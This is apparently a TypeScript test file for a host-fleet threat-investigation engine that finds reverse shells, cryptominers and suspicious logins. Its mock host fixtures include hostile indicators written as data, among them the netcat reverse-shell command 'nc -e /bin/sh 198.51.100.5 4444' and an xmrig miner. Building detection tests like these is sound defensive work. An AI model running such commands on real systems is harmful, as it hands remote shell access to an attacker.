import { test } from "tap";
import { InvestigationRun, SEVERITIES, diffFindings, findingKey, markNewFindings, routeQuery, runInvestigation, tableTtlSeconds } from "../../shared/engine/index.js";
import type { EngineFinding } from "../../shared/engine/index.js";
import { coverage, host, loadFleet, proc, sock } from "./helpers.js";

const compromised = host(
  {
    processes: [proc(7, "bash", "/usr/bin/bash", "bash -i"), proc(8, "xmrig", "/tmp/xmrig", "xmrig -o stratum+tcp://p:3333", { start_time: "1731990000" })],
    process_open_sockets: [sock(7, "203.0.113.66", 443)],
    users: [{ uid: "0", username: "toor", shell: "/bin/sh", directory: "/root" }],
    last: [{ username: "root", tty: "pts/0", type: "7", time: "1731990100", host: "203.0.113.66" }],
  },
  { env: "prod" },
  "b-agent",
  "b-host",
);

test("findings sorted by severity desc, then detection id, then agent id", async (t) => {
  const other = { ...compromised, agent_id: "a-agent", hostname: "a-host", tags: {} };
  const r = runInvestigation(routeQuery("anything odd?", "deep"), [compromised, other], coverage(2), "deep");
  t.ok(r.findings.length >= 6);
  for (let i = 1; i < r.findings.length; i++) {
    const a = r.findings[i - 1] as EngineFinding;
    const b = r.findings[i] as EngineFinding;
    const order = SEVERITIES.indexOf(b.severity) - SEVERITIES.indexOf(a.severity) || a.detection_id.localeCompare(b.detection_id) || a.agent_id.localeCompare(b.agent_id);
    t.ok(order <= 0, `${a.detection_id}@${a.agent_id} before ${b.detection_id}@${b.agent_id}`);
  }
  for (const f of r.findings) {
    t.ok(f.confidence > 0 && f.confidence <= 1);
    t.ok(f.evidence.every((e) => e.collected_at === "2024-11-20T12:00:00Z"));
  }
});

test("the same input gives the same report, whatever the host order", async (t) => {
  const { hosts, agents, offline } = loadFleet();
  const cov = { mode: "cached" as const, agents_targeted: agents.length, agents_responded: hosts.length, unreachable: offline.map((a) => ({ agent_id: a.agent_id, hostname: a.hostname, reason: "offline" })) };
  for (const q of ["anything odd?", "did the attacker spread laterally from 203.0.113.66?", "persistence"]) {
    const plan = routeQuery(q, "deep");
    t.same(routeQuery(q, "deep"), plan, "routing repeats");
    const first = runInvestigation(plan, hosts, cov, "deep", { directory: agents });
    const second = runInvestigation(structuredClone(plan), [...hosts].reverse(), cov, "deep", { directory: [...agents].reverse() });
    t.same(second, first, q);
    t.equal(JSON.stringify(second), JSON.stringify(first), "byte for byte");
  }
});

test("InvestigationRun fed a host at a time, in any order, gives runInvestigation's report", async (t) => {
  const { hosts, agents, offline } = loadFleet();
  const cov = { mode: "live" as const, agents_targeted: agents.length, agents_responded: hosts.length, unreachable: offline.map((a) => ({ agent_id: a.agent_id, hostname: a.hostname, reason: "timed out" })) };
  // Arrival orders a collection can produce: as listed, reversed, and interleaved from both ends.
  const interleaved = hosts.map((_, i) => hosts[i % 2 === 0 ? i / 2 : hosts.length - 1 - (i - 1) / 2]!);
  for (const q of ["anything odd?", "did the attacker spread laterally from 203.0.113.66?", "are any hosts running processes that listen on unexpected ports?", "prod hosts with env=prod listening"]) {
    const plan = routeQuery(q, "deep");
    const whole = runInvestigation(plan, hosts, cov, "deep", { directory: agents });
    t.ok(whole.findings.length + (whole.baseline_notes?.length ?? 0) > 0 || /env=prod/.test(q), `${q}: the fleet gives the run something to report`);
    for (const order of [hosts, [...hosts].reverse(), interleaved]) {
      const run = new InvestigationRun(plan);
      for (const h of order) run.add(h);
      t.equal(JSON.stringify(run.finish(cov, "deep", { directory: agents })), JSON.stringify(whole), `${q}: the same report byte for byte`);
    }
  }
});

test("InvestigationRun: a host outside the question's tag scope is counted, not evaluated", async (t) => {
  const plan = routeQuery("any reverse shell on env=prod hosts?", "standard");
  t.same(plan.entities.tags, { env: "prod" }, "the question names a tag");
  const outside = { ...compromised, agent_id: "c-agent", hostname: "c-host", tags: { env: "dev" } };
  const run = new InvestigationRun(plan);
  run.add(outside);
  run.add(compromised);
  const r = run.finish(coverage(2), "standard");
  t.ok(r.findings.length > 0);
  t.ok(r.findings.every((f) => f.agent_id === "b-agent"), "findings only on the host in scope");
  t.same(r, runInvestigation(plan, [compromised, outside], coverage(2), "standard"));
  t.match(r.narrative, /1 host/);
});

test("InvestigationRun without the pathfinder keeps which tables a host returned, and the rows its findings cite", async (t) => {
  const plan = routeQuery("listening ports and cron", "standard");
  t.equal(plan.route, "detections");
  const listener = host(
    { processes: [proc(4242, "kworker", "/tmp/.x/kworker", "/tmp/.x/kworker -l 4444")], listening_ports: [{ pid: "4242", port: "4444", protocol: "6", address: "0.0.0.0" }] },
    {},
    "l-agent",
    "l-host",
  );
  const run = new InvestigationRun(plan);
  run.add(structuredClone(listener));
  const r = run.finish(coverage(1), "standard");
  t.ok(r.coverage_gaps.some((g) => /l-host \(l-agent\) returned no (?:[a-z_]+, )*crontab\b/.test(g)), "the missing table is a gap");
  t.notOk(r.coverage_gaps.some((g) => /returned no [^.]*(processes|listening_ports)/.test(g)), "the tables it returned are not");
  const cited = r.findings.flatMap((f) => f.evidence.map((e) => e.row));
  t.ok(cited.length > 0, "a finding cites rows");
  t.ok(cited.every((row) => Object.keys(row).length > 0), "and the rows it cites are whole");
});

test("narrative: asked, route, what ran, findings, gaps, verdict", async (t) => {
  const plan = routeQuery("any reverse shell?", "standard");
  const r = runInvestigation(plan, [compromised], coverage(1, ["gone"]), "standard");
  t.match(r.narrative, /Asked: "any reverse shell\?"/);
  t.match(r.narrative, /Route: detections because "reverse shell" → reverse-shell/);
  t.match(r.narrative, /Ran 1 detection \(reverse-shell\) over 1 host/);
  t.match(r.narrative, /on b-host/);
  t.match(r.narrative, /gone \(gone\) gave no rows: offline/);
  t.match(r.narrative, new RegExp(`Verdict: ${r.verdict}`));
  t.equal(r.verdict, "malicious");
  const sweep = runInvestigation(routeQuery("anything odd?", "standard"), [compromised], coverage(1, []), "standard");
  const ran = /Ran (\d+) detections \(([^)]*)\)/.exec(sweep.narrative);
  t.ok(ran && Number(ran[1]) > 8, "a broad sweep runs many detections");
  t.match(ran?.[2], new RegExp(`^([a-z0-9-]+, ){7}[a-z0-9-]+ and ${Number(ran?.[1]) - 8} more$`), "the Ran line names 8 and counts the rest");
});

test("coverage gaps: unreachable agents, missing tables, missing baselines", async (t) => {
  const plan = routeQuery("listening ports and cron", "standard");
  const partial = host({ listening_ports: [] }, {}, "p", "partial");
  const tagged = host({ listening_ports: [], processes: [], crontab: [], users: [] }, { allowed_ports: "22" }, "q", "tagged");
  const r = runInvestigation(plan, [partial, tagged], coverage(2, ["offline-1"]), "standard");
  t.ok(r.coverage_gaps.some((g) => g.startsWith("offline-1") && g.includes("offline")));
  t.ok(r.coverage_gaps.some((g) => /partial \(p\) returned no crontab, processes(?:, [a-z_]+)* tables/.test(g)));
  t.notOk(r.coverage_gaps.some((g) => g.includes("tagged (q) returned")), "complete host has no table gap");
  t.ok(r.coverage_gaps.some((g) => g.includes("No allowed_ports baseline tag on partial")));
  t.ok(r.next_steps.investigation.some((s) => s.includes("offline-1")));
});

test("coverage gaps: rows an agent cut short are named, with the hosts", async (t) => {
  const plan = routeQuery("listening ports and cron", "standard");
  const cut = { ...host({ listening_ports: [], processes: [], crontab: [] }, {}, "c", "capped"), truncated: ["processes"] };
  const whole = host({ listening_ports: [], processes: [], crontab: [] }, {}, "w", "whole");
  const r = runInvestigation(plan, [cut, whole], coverage(2), "standard");
  t.ok(r.coverage_gaps.some((g) => g.startsWith("capped (c) sent only part of their processes rows")), JSON.stringify(r.coverage_gaps));
  t.notOk(r.coverage_gaps.some((g) => g.includes("whole (w) sent")), "a whole answer is no gap");
});

test("next steps come from the detections that fired, grouped", async (t) => {
  const r = runInvestigation(routeQuery("reverse shell or miner", "standard"), [compromised], coverage(1), "standard");
  for (const group of ["triage", "containment", "investigation", "remediation"] as const) t.ok(r.next_steps[group].length > 0, group);
  t.ok(r.next_steps.containment.some((s) => s.includes("b-host")), "hosts filled in");
  t.notOk(JSON.stringify(r.next_steps).includes("{hosts}"));
  const clean = runInvestigation(routeQuery("reverse shell", "standard"), [host({ processes: [], process_open_sockets: [] })], coverage(1), "standard");
  t.same(clean.next_steps.containment, []);
});

test("timeline from dated evidence rows", async (t) => {
  const r = runInvestigation(routeQuery("miners and root logins", "standard"), [compromised], coverage(1), "standard");
  const timeline = r.timeline ?? [];
  t.ok(timeline.some((e) => e.time === "2024-11-19T04:20:00.000Z" && e.event.includes("xmrig")));
  t.ok(timeline.some((e) => e.time === "2024-11-19T04:21:40.000Z" && e.event.includes("root logged in from 203.0.113.66")));
  t.same([...timeline].sort((a, b) => a.time.localeCompare(b.time)), timeline, "oldest first");
});

test("diffFindings marks what is new since the previous run", async (t) => {
  const plan = routeQuery("reverse shell or miner", "standard");
  const before = runInvestigation(plan, [compromised], coverage(1), "standard").findings;
  const restarted = structuredClone(compromised);
  for (const row of restarted.tables.processes ?? []) if (row.name === "xmrig") row.pid = "9999";
  restarted.collected_at = "2024-11-21T12:00:00Z";
  restarted.tables.processes?.push(proc(50, "nc", "/usr/bin/nc", "nc -e /bin/sh 198.51.100.5 4444"));
  restarted.tables.process_open_sockets?.push(sock(50, "198.51.100.5", 4444));
  const after = runInvestigation(plan, [restarted], coverage(1), "standard").findings;
  const diff = diffFindings(before, after);
  t.equal(diff.length, after.length);
  const fresh = diff.filter((d) => d.is_new).map((d) => d.finding.summary);
  t.ok(fresh.length >= 1 && fresh.every((s) => s.includes("nc") || s.includes("198.51.100.5")), "only the netcat findings are new");
  t.ok(diff.some((d) => !d.is_new && d.finding.detection_id === "cryptominer"), "a restarted miner (new pid) is not news");
  t.same(markNewFindings(before, after), diff.map((d) => d.is_new));
  t.ok(diffFindings([], after).every((d) => d.is_new));
  t.equal(findingKey(before[0] as EngineFinding), findingKey(structuredClone(before[0]) as EngineFinding));
  t.ok(findingKey(before[0] as EngineFinding).startsWith(`${before[0]?.detection_id}|${before[0]?.agent_id}|`));
});

test("table TTLs: volatile tables 1 h, the rest 24 h", async (t) => {
  for (const table of ["processes", "listening_ports", "process_open_sockets", "process_envs", "logged_in_users", "docker_containers"]) t.equal(tableTtlSeconds(table), 3600, table);
  for (const table of ["crontab", "users", "deb_packages", "authorized_keys", "suid_bin", "made_up"]) t.equal(tableTtlSeconds(table), 86400, table);
});

test("question tags narrow the hosts examined", async (t) => {
  const staging = { ...compromised, agent_id: "s", hostname: "staging", tags: { env: "staging" } };
  const r = runInvestigation(routeQuery("reverse shell on env=prod", "standard"), [compromised, staging], coverage(2), "standard");
  t.same([...new Set(r.findings.map((f) => f.agent_id))], ["b-agent"]);
  t.match(r.narrative, /1 host that answered did not carry env=prod/);
  t.notOk(r.coverage_gaps.some((g) => g.includes("neither answered")), "out-of-scope hosts are not a coverage gap");
});

test("unknown detection ids and malformed rows become coverage gaps, not crashes", async (t) => {
  const plan = { ...routeQuery("reverse shell", "standard"), detection_ids: ["reverse-shell", "made-up"] };
  const odd = host({ processes: [{ pid: { nested: true }, name: 42, path: null }], process_open_sockets: [{ pid: [], remote_address: 7 }] });
  const r = runInvestigation(plan, [odd], coverage(1), "standard");
  t.same(r.findings, []);
  t.ok(r.coverage_gaps.some((g) => g.includes("made-up")));
});

test("a finding carries at most 32 KB of an agent's rows and a bounded summary, whatever the agent sent (shared/engine/evidence-bounds.ts)", async (t) => {
  const plan = routeQuery("interactive logins from public internet addresses", "standard");
  // Every login from one public address is one finding that cites them all: 400 rows, each made large.
  const last = Array.from({ length: 400 }, (_, i) => ({ username: "root", host: "203.0.113.5", type: "7", type_name: "user-process", time: String(1731990000 + i), tty: `pts/${"9".repeat(3_000)}` }));
  const loud = { ...host({ last }, {}, "loud-agent", "loud-host") };
  const quiet = host({ last: [{ username: "ops", host: "198.51.100.7", type: "7", type_name: "user-process", time: "1731990000", tty: "pts/1" }] }, {}, "quiet-agent", "quiet-host");
  const r = runInvestigation(plan, [loud, quiet], coverage(2), "standard");
  const found = r.findings.find((f) => f.agent_id === "loud-agent");
  t.ok(found, "the loud host's logins are still a finding");
  const evidenceBytes = Buffer.byteLength(JSON.stringify(found?.evidence ?? []));
  t.ok(evidenceBytes <= 32 * 1024, `its evidence is ${evidenceBytes} bytes`);
  t.ok((found?.evidence.length ?? 0) > 0 && (found?.evidence.length ?? 0) < 400, `some rows kept (${found?.evidence.length}), not all 400`);
  t.ok(r.coverage_gaps.some((g) => /loud-host .*evidence rows left out of its finding/.test(g)), "the report says rows were left out");
  t.ok(r.findings.some((f) => f.agent_id === "quiet-agent"), "the other host's finding is there");
  // One row larger than the budget alone is kept with its long values cut.
  const huge = host({ last: [{ username: "root", host: "203.0.113.9", type: "7", type_name: "user-process", time: "1731990000", tty: "x".repeat(100_000) }] }, {}, "huge-agent", "huge-host");
  const one = runInvestigation(plan, [huge], coverage(1), "standard").findings[0];
  t.equal(one?.evidence.length, 1);
  t.ok(Buffer.byteLength(JSON.stringify(one)) < 8 * 1024, "the finding is small");
  t.match(String(one?.evidence[0]?.row.tty), /… \(cut\)$/);
});

test("a summary made long by an agent's values is cut to 2,000 characters, saying how much went", async (t) => {
  const { boundSummary, SUMMARY_MAX_CHARS } = await import("../../shared/engine/evidence-bounds.js");
  t.equal(boundSummary("short"), "short");
  const cut = boundSummary(`a${"b".repeat(10_000)}`);
  t.ok(cut.startsWith(`a${"b".repeat(SUMMARY_MAX_CHARS - 1)} …`));
  t.match(cut, /\(8001 more characters cut\)$/);
});
